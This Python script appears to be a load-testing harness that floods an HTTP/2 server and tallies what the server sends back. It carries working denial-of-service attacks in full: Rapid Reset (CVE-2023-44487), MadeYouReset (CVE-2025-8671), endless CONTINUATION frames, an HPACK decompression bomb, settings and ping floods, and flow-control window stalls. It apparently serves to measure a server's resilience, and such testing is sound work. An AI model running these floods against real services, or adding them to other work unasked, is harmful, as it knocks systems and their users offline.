#!/usr/bin/env python3
"""Floods an HTTP/2 listener, as fast as one core can, and tells what it sent and what came back: attacker.py KIND SECONDS HOST PORT
AUTHORITY COOKIE. A process of its own, so that whoever is measured meanwhile does not wait for it."""

import collections
import json
import ssl
import sys
import time

import wire
from wire import (
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PRIORITY, RST_STREAM, SETTINGS, WINDOW_UPDATE, frame, literal, number, settings,
)


class Target:
    """What `wire` wants to know of a stage."""

    def __init__(self, port, authority):
        self.port, self.authority = port, authority

    def tls(self, *protocols):
        context = ssl.create_default_context(cafile=self.authority)
        context.set_alpn_protocols(list(protocols))
        return context


def streams(client, count):
    return [client.stream() for _ in range(count)]


def block(client, path="/page", method="GET", *more):
    """A head that any decoder reads, however often it is sent."""
    return client.block(client.head(method, path, *more), raw=True)


# Each yields what to send on one connection, again and again.


def rapid_reset(client):
    """CVE-2023-44487: streams that are cancelled as soon as they are opened."""
    head = block(client, "/silent")
    while True:
        yield b"".join(frame(HEADERS, 5, each, head) + frame(RST_STREAM, 0, each, number(8)) for each in streams(client, 100))


def made_you_reset(client):
    """CVE-2025-8671: faults that make the server cancel them itself."""
    head = block(client, "/silent", "POST")
    while True:
        yield b"".join(frame(HEADERS, END_HEADERS, each, head) + frame(WINDOW_UPDATE, 0, each, number(2**31 - 1)) for each in streams(client, 50))


def made_you_reset_by_length(client):
    """The same by bodies that are longer than they say."""
    head = block(client, "/swallow", "POST", ("content-length", "1"))
    while True:
        yield b"".join(frame(HEADERS, END_HEADERS, each, head) + frame(DATA, END_STREAM, each, b"two") for each in streams(client, 50))


def continuation(client):
    """A head without end."""
    yield frame(HEADERS, END_STREAM, client.stream(), block(client))
    piece = b"".join(b"\x00" + literal(f"x-{at}") + literal("y" * 100) for at in range(100))
    stream = client.next_stream - 2
    while True:
        yield frame(CONTINUATION, 0, stream, piece) * 10


def empty_continuation(client):
    """A head without end that has nothing in it."""
    yield frame(HEADERS, END_STREAM, client.stream(), block(client))
    stream = client.next_stream - 2
    while True:
        yield frame(CONTINUATION, 0, stream) * 2_000


def settings_flood(client):
    while True:
        yield frame(SETTINGS, 0, 0, settings((4, 65_535))) * 1_000


def ping_flood(client):
    while True:
        yield frame(PING, 0, 0, b"flooding") * 1_000


def empty_data(client):
    stream = client.stream()
    yield frame(HEADERS, END_HEADERS, stream, block(client, "/swallow", "POST"))
    while True:
        yield frame(DATA, 0, stream) * 2_000


def small_data(client):
    """A byte a frame, as much as the windows allow, to an app that takes them."""
    stream = client.stream()
    yield frame(HEADERS, END_HEADERS, stream, block(client, "/swallow", "POST"))
    while True:
        yield frame(DATA, 0, stream, b"x") * 500


def priorities(client):
    while True:
        yield b"".join(frame(PRIORITY, 0, each, number(each - 2 if each > 1 else 0) + b"\x01") for each in streams(client, 1_000))


def window_updates(client):
    stream = client.stream()
    yield frame(HEADERS, 5, stream, block(client, "/silent"))
    while True:
        yield (frame(WINDOW_UPDATE, 0, 0, number(1)) + frame(WINDOW_UPDATE, 0, stream, number(1))) * 500


def unknown_frames(client):
    while True:
        yield frame(0xEE, 0xFF, 0, bytes(16_000)) * 8


def hpack_bomb(client):
    """A field of 4 KB in the table, and a thousand references to it in each head: 4 MB out of 1 KB."""
    while True:
        first, *rest = streams(client, 20)
        head = block(client)
        yield frame(HEADERS, 5, first, head + b"\x40" + literal("x") + literal("y" * 3_900))
        yield b"".join(frame(HEADERS, 5, each, head + b"\xbe" * 15_000) for each in rest)


def cookie_crumbs(client):
    """Thousands of crumbs of a cookie, each one byte in the block."""
    while True:
        first, *rest = streams(client, 20)
        head = block(client)
        yield frame(HEADERS, 5, first, head + b"\x40" + literal("cookie") + literal("a=1"))
        yield b"".join(frame(HEADERS, 5, each, head + b"\xbe" * 15_000) for each in rest)


def zero_window(client):
    """As many large answers as there may be streams, of which nobody takes a byte."""
    yield frame(SETTINGS, 0, 0, settings((4, 0)))
    head = block(client, "/many?n=50000000")
    yield b"".join(frame(HEADERS, 5, each, head) for each in streams(client, 100))
    while True:
        time.sleep(0.2)
        yield b""


def tiny_window(client):
    """The same, byte by byte."""
    yield frame(SETTINGS, 0, 0, settings((4, 1)))
    head, all_of = block(client, "/many?n=50000000"), streams(client, 100)
    yield b"".join(frame(HEADERS, 5, each, head) for each in all_of)
    while True:
        yield b"".join(frame(WINDOW_UPDATE, 0, each, number(1)) for each in all_of)


FLOODS = {each.__name__: each for each in (
    rapid_reset, made_you_reset, made_you_reset_by_length, continuation, empty_continuation, settings_flood, ping_flood, empty_data, small_data,
    priorities, window_updates, unknown_frames, hpack_bomb, cookie_crumbs, zero_window, tiny_window,
)}
# These take nothing from the server, so that what it wants to say piles up.
DEAF = {"settings_flood", "ping_flood"}
# These hold connections rather than fill them.
HOLDS = {"zero_window": 20}


def flood(kind, seconds, host, port, authority, cookie):
    target, told, end = Target(int(port), authority), collections.Counter(), time.monotonic() + float(seconds)
    if kind in HOLDS:
        held = []
        for _ in range(HOLDS[kind]):
            client = wire.Multiplexed(target, host, cookie)
            held.append(client)
            waves = FLOODS[kind](client)
            client.send(next(waves) + next(waves))
            # It is a stall that is tried here, not a rush.
            time.sleep(0.05)
        told["connections"], told["frames"] = len(held), 100 * len(held)
        while time.monotonic() < end:
            time.sleep(0.1)
        return told
    while time.monotonic() < end:
        client = wire.Multiplexed(target, host, cookie)
        told["connections"] += 1
        one(client, kind, end, told)
        client.close()
    return told


def one(client, kind, end, told):
    """One connection, until it ends."""
    try:
        for wave in FLOODS[kind](client):
            if time.monotonic() > end:
                return
            client.tls.settimeout(1)
            client.send(wave)
            told["bytes"] += len(wave)
            if kind not in DEAF and not hears(client, told, 0.0005):
                return
    except TimeoutError:
        told["stalls"] += 1
    except (ssl.SSLError, OSError):
        told["broken"] += 1
    try:
        hears(client, told, 0.5)
    except OSError:
        pass


def hears(client, told, seconds):
    """Takes what came; False once the connection ends."""
    while True:
        try:
            found = client.next(seconds)
        except TimeoutError:
            return True
        if found is None:
            told["ends"] += 1
            return False
        if found.kind == wire.GOAWAY:
            told[f"GOAWAY {found.code()}"] += 1
            return False
        if found.kind == RST_STREAM:
            told[f"RST_STREAM {found.code()}"] += 1
        # Frames that were seen are of no use here, and would fill this process.
        client.seen.clear()
        seconds = 0.0001


if __name__ == "__main__":
    print(json.dumps(flood(*sys.argv[1:])))
